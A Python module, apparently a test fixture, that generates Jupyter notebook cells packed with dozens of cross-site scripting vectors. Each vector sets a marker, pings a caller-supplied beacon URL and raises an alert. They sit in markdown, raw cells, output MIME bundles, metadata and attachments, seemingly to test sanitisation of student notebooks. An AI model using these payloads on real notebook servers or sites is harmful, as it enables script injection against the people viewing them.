"""Known ways to bring a script into a page, as a student could put them into a notebook."""

from __future__ import annotations

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

BARE_ACT = "window.__hit=1"
ACT = "window.__hit=1;new Image().src='{beacon}';alert(1)"
MARKUP = (
    "<script>{act}</script>",
    "<ScRiPt src='{beacon}'></sCrIpT>",
    "<scr<style></style>ipt>{act}</scr<style></style>ipt>",
    '<img src=x onerror="{act}">',
    '<img src="{beacon}">',
    "<img src='data:image/png;base64,AAAA' onload=\"{act}\">",
    '<svg onload="{act}"><circle r="9"/></svg>',
    "<svg><script>{act}</script></svg>",
    "<svg><style><img src=x onerror=\"{act}\"></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={act}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={act}>"></noscript>',
    '<textarea><script>{act}</script></textarea><title><img src=x onerror="{act}"></title>',
    '<xmp><p title="</xmp><img src=x onerror={act}>"></xmp>',
    '<a href="javascript:{act}">read on</a>',
    '<a href="  java&#9;script:{act}">read on</a>',
    '<a href="/files/javascript:{act}">read on</a>',
    '<a href="data:text/html,<script>{act}</script>">read on</a>',
    '<a href="page.html" data-toggle="tooltip" data-html="true" title="<img src=x onerror={act}>">read on</a>',
    '<iframe src="javascript:{act}"></iframe>',
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    '<object data="data:text/html,<script>{act}</script>"></object>',
    '<embed src="{beacon}">',
    '<base href="{beacon}">',
    '<meta http-equiv="refresh" content="0;url={beacon}">',
    '<link rel="stylesheet" href="{beacon}">',
    '<form action="{beacon}"><button autofocus onfocus="{act}">go</button></form>',
    '<input autofocus onfocus="{act}"><select autofocus onfocus="{act}"></select>',
    '<details open ontoggle="{act}"><summary>more</summary>text</details>',
    '<video src="{beacon}" onerror="{act}"></video><audio src="{beacon}" onerror="{act}"></audio>',
    '<body onload="{act}"><p onmouseover="{act}">text</p>',
    '<style>@import url({beacon}); body {{ background: url({beacon}) }}</style>',
    '<style>#T_a {{ background: url({beacon}) }} #T_a, body {{ color: red }}</style>',
    '<style></style/><img src=x onerror="{act}">',
    '<p style="background: url({beacon}); position: fixed; top: 0; margin: -99px">text</p>',
    '<p style="width: expression({act}); behavior: url({beacon})">text</p>',
    '<!--><img src=x onerror="{act}">-->',
    '<div class="panel nbgrader_cell" id="statusmessage" data-link="x">text</div>',
    '<marquee onstart="{act}">text</marquee>',
    '<template><script>{act}</script></template>',
    '<script type="text/x-mathjax-config">{act}</script>',
)  # fmt: skip
MARKDOWN = (
    "[read on](javascript:{bare})",
    "[read on](/files/javascript:{bare})",
    "![x](data:text/html;base64,{page})",
    '![x](x"onerror="{bare})',
    "<javascript:{bare}>",
    "# <img src=x onerror=\"{bare}\">",
    r"$\href{{javascript:{bare}}}{{x}}$",
    "```mermaid\n<img src=x onerror=\"{bare}\">\n```",
    "`<script>{bare}</script>`",
)  # fmt: skip


def filled(vectors: tuple[str, ...], beacon: str) -> list[str]:
    """The vectors, told whom to call when they fire."""
    act = ACT.format(beacon=beacon)
    page = base64.b64encode(f"<script>{act}</script>".encode()).decode()
    return [vector.format(act=act.replace('"', "'"), beacon=beacon, bare=BARE_ACT, page=page) for vector in vectors]


def cells(beacon: str) -> list:
    """A cell for each way: in prose, in outputs of every kind, in their metadata, and in what nbgrader notes."""
    act = ACT.format(beacon=beacon)
    markup = filled(MARKUP, beacon)
    prose = [new_markdown_cell(text) for text in [*markup, *filled(MARKDOWN, beacon)]]
    raw = [new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in markup]
    html = f"<script>{act}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{act}"><script>{act}</script></svg>'
    sized = {"width": f"1 onerror={act}", "height": f'"><script>{act}</script>', "alt": f'x" onerror="{act}'}
    bundles: list[tuple[dict, dict]] = [
        *(({"text/html": text}, {}) for text in markup),
        *(({"text/markdown": text}, {}) for text in filled(MARKDOWN, beacon)),
        ({"application/javascript": act}, {}),
        ({"image/svg+xml": svg}, {}),
        ({"text/html": html}, {"text/html": {"isolated": True}, "isolated": True}),
        ({"image/png": f'x"><script>{act}</script>'}, {}),
        ({"image/png": "AAAA"}, {"image/png": sized}),
        ({"image/jpeg": "AAAA"}, {"filenames": {"image/jpeg": f'x" onerror="{act}'}}),
        ({"text/plain": html}, {}),
        ({"text/latex": html}, {}),
        ({"text/vnd.mermaid": html}, {}),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{html}"}}, {}),
    ]
    outputs = [new_output("display_data", data=data, metadata=about) for data, about in bundles]
    outputs += [new_output("stream", text=html), new_output("error", ename=html, evalue=html, traceback=[html])]
    attached = new_markdown_cell("![x](attachment:x)", attachments={"x": {"text/html": "PHNjcmlwdD4="}})
    code = new_code_cell(html, outputs=outputs, metadata={"tags": [f'x" onclick="{act}'], "alt": f'x" onerror="{act}'})
    return [*prose, *raw, attached, code]
